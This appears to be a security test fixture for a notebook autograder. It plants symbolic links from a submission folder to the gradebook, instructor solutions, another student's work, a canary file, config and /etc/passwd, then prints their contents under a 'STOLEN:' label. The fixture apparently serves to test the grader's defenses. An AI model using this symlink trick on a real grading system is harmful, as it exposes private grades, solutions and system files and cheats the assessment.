# ---
# jupyter:
#   corpus:
#     title: links out of the submitted folder
#     attempts: hands in symbolic links to the gradebook, the source and others' work, which the grader might
#       follow when it copies
#     points: {1a: 0, 2: 0, 3: 0}
#     flags: []
#     reference: false
# ---

# %% build="submission"
course = folder.parents[2]
targets = {
    "gradebook.txt": course / "gradebook.db", "solutions.txt": course / "source" / "vae" / "vae.ipynb",
    "other.txt": course / "submitted" / "sentinel_right" / "vae" / "vae.ipynb", "secret.txt": course / "canary.txt",
    "settings.txt": "../../../nbgrader_config.py", "everything": course, "system.txt": "/etc/passwd",
}
for name, target in targets.items():
    link = folder / name
    link.unlink(missing_ok=True)
    link.symlink_to(target)
(folder / "src" / "canary.txt").unlink(missing_ok=True)
(folder / "src" / "canary.txt").symlink_to(course / "canary.txt")

# %% after="imports"
import glob
import os

for path in glob.glob("*.txt") + glob.glob("src/*.txt") + glob.glob("everything/*"):
    if os.path.isfile(path):
        try:
            print("STOLEN:", path, open(path, "rb").read()[:2000])
        except OSError:
            pass
